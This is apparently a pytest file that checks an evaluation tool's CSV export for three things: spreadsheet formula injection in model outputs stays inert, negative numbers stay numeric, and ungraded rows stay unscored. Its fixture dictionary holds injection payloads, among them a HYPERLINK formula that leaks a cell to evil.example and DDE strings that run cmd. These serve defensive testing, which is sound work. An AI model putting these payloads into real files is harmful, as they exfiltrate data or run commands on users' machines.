"""The CSV export's cells as pandas and spreadsheets read them (issue 52, points 8 and 11): model-written text
that a spreadsheet would run as a formula stays inert, a plain negative number stays a number, and a run
without a gold answer is unscored (an empty `correct` cell), not wrong."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd

from lemon.evaluation.store import ItemRow, ResultsStore
from lemon.inspection.export_table import FORMULA_START, results_csv

HOSTILE = {
    "link": '=HYPERLINK("http://evil.example/?leak="&A1,"click for the answer")',
    "dde": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _row(item_id: str, prediction: str, gold: str | None) -> ItemRow:
    return ItemRow(item_id=item_id, seed=0, prediction=prediction, gold=gold, correct=prediction == gold,
                   tokens={}, total_tokens=10, latency_s=0.1, trace_id=None, status="ok")


def _table(tmp_path: Path) -> str:
    with ResultsStore(tmp_path / "r.sqlite") as db:
        run = db.ensure_run("r1", benchmark="gsm8k", split="test", method="cot", pool="tiny", level="medium",
                            seeds=1, n_items=len(HOSTILE) + 3, config={})
        for item_id, text in HOSTILE.items():
            db.put("r1", _row(item_id, text, "4"))
        db.put("r1", _row("negative", "-3", "-3"))
        db.put("r1", _row("exponent", "+2.5e3", "2500"))
        db.put("r1", _row("no-gold", "=1+1", None))
        text, n = results_csv(db, [run])
    assert n == len(HOSTILE) + 3
    return text


def _assert_inert(frame: pd.DataFrame) -> None:
    """No text cell of the frame starts a formula; a cell that starts like one is a plain number."""
    for column in frame.columns:
        for cell in frame[column]:
            if isinstance(cell, str) and cell.startswith(FORMULA_START):
                float(cell)  # raises for anything but a number


def test_a_pandas_round_trip_keeps_formulas_inert(tmp_path: Path) -> None:
    frame = pd.read_csv(io.StringIO(_table(tmp_path)), dtype=str, keep_default_na=False)
    assert len(frame) == len(HOSTILE) + 3  # a carriage return in a cell does not start a row of its own
    _assert_inert(frame)
    predictions = dict(zip(frame["item_id"], frame["prediction"], strict=True))
    for item_id, text in HOSTILE.items():
        assert predictions[item_id] == "'" + text  # shown as the text the model wrote, one quote in front
    # written back as the export writes (CRLF): pandas' default "\n" would leave the carriage return unquoted
    again = pd.read_csv(io.StringIO(frame.to_csv(index=False, lineterminator="\r\n")), dtype=str,
                        keep_default_na=False)
    _assert_inert(again)
    assert again.equals(frame)


def test_a_plain_negative_number_stays_a_number(tmp_path: Path) -> None:
    frame = pd.read_csv(io.StringIO(_table(tmp_path))).set_index("item_id")
    assert float(frame.loc["negative", "prediction"]) == -3.0 == float(frame.loc["negative", "gold"])
    assert frame.loc["exponent", "prediction"] == "+2.5e3" and frame.loc["negative", "correct"] == 1


def test_a_run_without_a_gold_answer_is_unscored_not_wrong(tmp_path: Path) -> None:
    frame = pd.read_csv(io.StringIO(_table(tmp_path))).set_index("item_id")
    assert pd.isna(frame.loc["no-gold", "correct"]) and pd.isna(frame.loc["no-gold", "gold"])
    assert frame.loc["link", "correct"] == 0 and frame.loc["negative", "correct"] == 1
    assert frame["correct"].mean() == 1 / 8  # pandas' mean skips the unscored row: 1 right of 8 scored
